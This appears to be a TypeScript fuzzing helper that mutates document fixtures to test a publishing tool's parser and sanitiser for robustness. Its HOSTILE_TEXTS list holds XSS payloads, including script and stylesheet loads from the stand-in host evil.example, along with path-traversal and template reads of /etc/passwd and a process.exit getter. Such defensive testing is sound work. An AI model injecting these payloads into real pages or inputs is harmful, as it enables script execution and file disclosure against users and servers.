import { readdirSync, readFileSync } from 'node:fs';
import { extname, join, sep } from 'node:path';
import fc from 'fast-check';
import { DOCUMENT_ENDINGS, kindOf } from '../../src/documents/kinds.ts';
import type { SourceFile } from '../../src/documents/stated.ts';
import { wordList } from '../../src/strings.ts';

const MAX_MUTATIONS = 6;
const MAX_BYTES = 200_000;
/** The maximum number of bytes that one mutation repeats. */
const MAX_REPEATED = 60_000;

/* Texts to repeat, which reveal work that grows faster than the document. */

export const BLANKS = [' ', '\t', '\n', '\u00a0', '\u200b', '\u3000'];
export const PUNCTUATION = [
  ...['.', ',', ':', ';', '-', '--', '=', '+', '/', '|', '&', '@', '#', '$', '%', '~', '^', '!', '?', '"'],
  ...["'", '`', '“', '\\', '*', '**', '_', '(', ')', '[', ']', '[[', '![', '{', '}', '{{', '{%', '<', '>'],
];
export const WORDS = [
  ...['a', 'A', '1', '1.', 'a ', 'A B ', 'a\n', 'a\n\n', 'a: b\n', '- a\n', '日', '「', 'e\u0301', '👍'],
];
export const ADDRESSES = ['http://', 'http://a.b ', 'http://a!', 'a@', 'a@b.c ', 'www.a'];
/** What plain text has a meaning for: in lines, and in paragraphs. */
export const LINES = [
  ...['photo: ', 'A, 1 ', '."', '1.1.', 'Aa Bb/', '© ', 'Kaynak: ', '> ', '>', '- ', '* ', '1. ', '•'],
  ...['https://', 'https://a(', 'a@', 'a.', '(', '--- ', '***', 'By Jane Roe, ', '| ', '3 Feb 2021 | '],
  '中',
].flatMap((unit) => [`${unit}x\n`, `${unit}x\n\n`]);
export const MARKDOWN = [
  ...[
    'a_',
    'a__',
    '*a',
    '[a](',
    '[a](b) ',
    '![a](b) ',
    '[a]: b\n',
    '[^1]',
    '[^a]: b\n\n',
    '[[a]] ',
    '> ',
    '>',
  ],
  ...['- ', '1. ', '  - a\n', '# a\n', '#a ', '| a ', '|-', '\n```\n', '\n~~~\n', '\n---\n', '\n:::a\n'],
  ...['\n:::\n', ':::a    ', '`a', '%%', '$a$', '\\#', '{{</*', '{{ a }}', '{{% a %}}', '{% raw %}'],
  ...['{% a %}', '{.a', '{.a .b', '{:', '{a=', '{#', '> [!a] b\n\n', '<!-- more -->'],
];
export const MDX = [
  ...['{', '{{{{{{{{{{}', '{}', '{a', '<A', '<A {', '<A>', '</A>', '<li> ', '\nimport a ', "\nimport 'a."],
  ...['\nexport const a'],
];
export const HTML = [
  ...['<a', '<a ', '<a href="', "<a href='#a'>", '<b>', '<i>x', '<p>', '</p>', '<div>', '</div>', '<br>'],
  ...['<h1>', '<h2>a', '<div><h2>a', '<b>a<p>', '<li>', '<ul><li>', '<table><tr><td>', '<td>', '<!--'],
  ...['-->', '<!', '<?', '</', '&amp;', '&amp', '&#', '<img src=a>', '<img ', '<sup>', '<sup><a>'],
  ...['<a><sup>', '<audio>', '<video>', '<figure>', '<pre>', '<code>', '<script>', '<style>', '<svg>'],
  ...['<font>', '<blockquote>', '<q>', '<select>', '<form>', '<p>[!a] ', '<span class="a b">', '<time>'],
  ...['<td align="left">'],
];

const FILLERS = [
  ...[...BLANKS, ...PUNCTUATION, ...WORDS, ...ADDRESSES, ...MARKDOWN, ...MDX, ...HTML],
  ...[
    '\0',
    '\ud800',
    '\u202e',
    '\r\n',
    '](',
    '+++\n',
    '<![CDATA[',
    '&#x',
    '<math>',
    '<template>',
    '<noscript>',
  ],
];
/** Syntax that may nest. */
const PAIRS = [
  ...['()', '[]', '{}', '**', '__', '``', '""'].map(([open = '', close = '']) => [open, close] as const),
  ...wordList('div b ul><li table><tr><td blockquote svg><g math><mi a p h2 template details').map(
    (names) => [`<${names}>`, `</${names.split('><').reverse().join('></')}>`] as const,
  ),
  ['> ', ''],
  ['- ', ''],
  ['  ', ''],
  ['[', '](a)'],
  ['![', '](a.png)'],
  ['{{< a >}}', '{{< /a >}}'],
  ['{% a %}', '{% enda %}'],
  [':::a\n', '\n:::\n'],
  ['<A>', '</A>'],
  ['{"a":', '}'],
  ['- - ', '\n'],
] as const;

const PATHS = [
  ...['news', '2021/02/03/news', '_posts/2021-02-03-news', 'posts/news/index', 'fr/news.en', 'a b/ü (1)'],
];

type Mutation = (bytes: Buffer) => Buffer;

/** A place in a document, as a part of its length. */
const place = fc.integer({ min: 0, max: 10_000 });

/** Folders of one document: a mutated fixture. */
export function mutatedDocuments(): fc.Arbitrary<readonly SourceFile[]> {
  const documents = fc.constantFrom(
    ...allDocuments().map(({ path, bytes }) => ({ ending: extname(path), bytes })),
  );
  const mutations = fc.array(mutation(documents.map(({ bytes }) => Buffer.from(bytes))), {
    maxLength: MAX_MUTATIONS,
  });
  const endings = fc.option(fc.constantFrom(...DOCUMENT_ENDINGS), { freq: 4 });
  return fc
    .tuple(documents, mutations, fc.constantFrom(...PATHS), endings)
    .map(([{ bytes, ending }, changes, path, otherEnding]) => [
      {
        path: path + (otherEnding ?? ending),
        bytes: changes.reduce(
          (changed, change) => change(changed).subarray(0, MAX_BYTES),
          Buffer.from(bytes),
        ),
      },
    ]);
}

function mutation(others: fc.Arbitrary<Buffer>): fc.Arbitrary<Mutation> {
  const hostile = fc.constantFrom(...HOSTILE_TEXTS);
  return fc.oneof(
    fc.tuple(place, fc.integer({ min: 1, max: 255 })).map(([at, bits]) => flip(at, bits)),
    { arbitrary: fc.tuple(place, hostile).map(([at, text]) => insert(at, Buffer.from(text))), weight: 4 },
    {
      arbitrary: fc
        .tuple(place, fc.constantFrom(...FILLERS), fc.nat(20_000))
        .map(([at, text, times]) => insert(at, repeat(text, times))),
      weight: 2,
    },
    fc
      .tuple(place, place, fc.constantFrom(...PAIRS), fc.nat(3000))
      .map(([from, to, [open, close], depth]) => nest(from, to, repeat(open, depth), repeat(close, depth))),
    fc.tuple(place, place, place, others).map(([at, from, to, other]) => insert(at, cut(other, from, to))),
    fc
      .tuple(place, place, fc.integer({ min: 2, max: 50 }))
      .map(([from, to, times]) => duplicate(from, to, times)),
    fc.tuple(place, place).map(([from, to]) => remove(from, to)),
    fc.tuple(place, place).map(([at, length]) => remove(at, at + length / 1000)),
    place.map((at) => remove(at, 10_000)),
    fc.tuple(place, fc.uint8Array({ minLength: 1, maxLength: 12 })).map(([at, bytes]) => insert(at, bytes)),
    fc.constant((bytes: Buffer) => Buffer.from(bytes.toString(), 'utf16le')),
    fc.constant((bytes: Buffer) => Buffer.from(bytes.toString().replaceAll('\n', '\r'))),
  );
}

function offsetIn(bytes: Uint8Array, at: number): number {
  return Math.min(bytes.length, Math.floor((bytes.length * at) / 10_000));
}

function cut(bytes: Buffer, from: number, to: number): Buffer {
  return bytes.subarray(offsetIn(bytes, Math.min(from, to)), offsetIn(bytes, Math.max(from, to)));
}

function repeat(text: string, times: number): Buffer {
  return Buffer.from(text.repeat(Math.min(times, Math.ceil(MAX_REPEATED / Math.max(1, text.length)))));
}

function flip(at: number, bits: number): Mutation {
  return (bytes) => {
    const changed = Buffer.from(bytes);
    const offset = offsetIn(bytes, at);
    if (offset < changed.length) changed[offset] = (changed[offset] ?? 0) ^ bits;
    return changed;
  };
}

function insert(at: number, inserted: Uint8Array): Mutation {
  return (bytes) => Buffer.concat([cut(bytes, 0, at), inserted, cut(bytes, at, 10_000)]);
}

function nest(from: number, to: number, open: Buffer, close: Buffer): Mutation {
  const [start, end] = from < to ? [from, to] : [to, from];
  return (bytes) =>
    Buffer.concat([cut(bytes, 0, start), open, cut(bytes, start, end), close, cut(bytes, end, 10_000)]);
}

function duplicate(from: number, to: number, times: number): Mutation {
  return (bytes) => insert(Math.max(from, to), Buffer.concat(Array(times).fill(cut(bytes, from, to))))(bytes);
}

function remove(from: number, to: number): Mutation {
  const [start, end] = from < to ? [from, to] : [to, from];
  return (bytes) => Buffer.concat([cut(bytes, 0, start), cut(bytes, end, 10_000)]);
}

const FIXTURES = join(import.meta.dirname, '../fixtures');
const SEEDS = join(import.meta.dirname, '../../seeds');

/** All documents among the fixtures of the tests, in the order of their paths. */
export function fixtureDocuments(): SourceFile[] {
  return documentsIn(FIXTURES);
}

/** The fixtures, and the documents of the publication. */
function allDocuments(): SourceFile[] {
  return [...fixtureDocuments(), ...documentsIn(SEEDS)];
}

function documentsIn(folder: string): SourceFile[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((path) => kindOf(path) !== undefined)
    .sort()
    .map((path) => ({ path: path.replaceAll(sep, '/'), bytes: readFileSync(join(folder, path)) }));
}

/** Texts that run code or end their context if they are not escaped, checked or bounded. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Elements and attributes that run scripts.
  '<script>alert(1)</script>',
  '<SCRIPT/SRC=//evil.example/x>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/onerror=alert(1)//src=x>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi><p></p><style><img src=x onerror=alert(1)></style></mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title></title><style></style><xmp><p id="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" \u0001java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:x" xlink:href="javascript:x">a</a>',
  '<img srcset="javascript:alert(1) 1x, a.png 2x" src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<video poster="javascript:alert(1)" src="a.mp4"><source src="data:text/html,x"><track src=javascript:x></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaa">]>&a;',
  '<plaintext>',
  '<frameset><frame src="javascript:alert(1)">',
  '</article></body></html><script>alert(1)</script>',
  '[a](javascript:alert(1))',
  '[a](java&#x0a;script:alert(1))',
  '![a](data:text/html,x "onerror=alert(1)")',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]\n',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<Foo onClick={() => alert(1)}>{fetch("/")}</Foo>',
  'export const meta = { title: "A", get draft() { return process.exit() } };\n',
  '{% include ../../../etc/passwd %}{{ site.secret }}{{< readfile "/etc/passwd" >}}',
  // Ends of contexts: CDATA, JSON, attributes, elements, front matter, a hole.
  ']]>',
  ']]&gt;',
  '"}],"version":"x"',
  '\\"\\u0000\\',
  '\u2028\u2029',
  '</script><!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0;&#x1F;&#xFFFE;&#xD800;&#x110000;&#99999999999;',
  '&nbsp;&NotEqualTilde;&amp;amp;',
  '\n---\ntitle: Another\n---\n',
  '\n+++\ntitle = "Another"\n+++\n',
  '---\n',
  // Characters that some formats cannot contain, or that reverse the direction of text.
  '\0\x01\b\v\f\x1b[31m\x7f\x85',
  '\ufffe\uffff\ufeff',
  '\ud83d',
  '\u202eevil\u2066\u200f',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da',
  '﷽ ı İ ß ŉ ǆ ﬃ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  // Addresses that lead out of the folder, or nowhere.
  '[a](../../../../etc/passwd) ![a](/etc/passwd) [a](file:///etc/passwd) [a](..%2f..%2fetc%2fpasswd)',
  '<img src="..\\..\\..\\etc\\passwd"><img src="//evil.example/x.png"><img src="http://[::1">',
  '[a](//evil.example) [a](\\\\evil.example) [a](https:evil.example) [a](http://a:b@c:99999/) [a](#) [a](?) [a](%)',
  '[[../../etc/passwd]] ![[/etc/passwd|x]] [[the-neighbour#x|y]] ![[the-neighbour]]',
  '<a href="https://news.example/articles/the-neighbour">a</a> [a](the-neighbour.md#x) [a](/articles/the-neighbour/)',
  // Names with a meaning to JavaScript.
  '__proto__ constructor toString hasOwnProperty valueOf',
  '<p id="__proto__"><a href="#__proto__" id="constructor" name="toString">x</a>',
  '[^__proto__]: a\n\n[constructor]: b\n\n[^__proto__] [constructor] [toString]\n',
  '$$ \\frac{a}{b} $$ $`x`$ \\(a\\) \\[b\\]',
  '| a | b |\n| --- |\n| c | d | e |\n',
  '<table><td>a<table><tr>b</table>',
  '<p>a<table>b<p>c</table><b><i></b></i><a><a>',
  '# <b>a\n## &lt;b&gt;\n### `<b>`\n',
  '```js {1,3-99999999}\na\n```\n',
  '> [!NOTE]\n> a\n\n:::note[<b>]{onclick=x}\na\n:::\n',
  '{.a #b onclick=alert(1) style="x"}',
  '- [ ] a\n- [x] b\n  1. c\n\n         d\n',
  '<!-- more --><!-- truncate --><!--more-->',
  'Date: 99999-99-99\nDate: 31.02.2021\nDraft: perhaps\n',
  'published: 0000-00-00\nupdated: 275760-09-13T00:00:01Z\n',
];
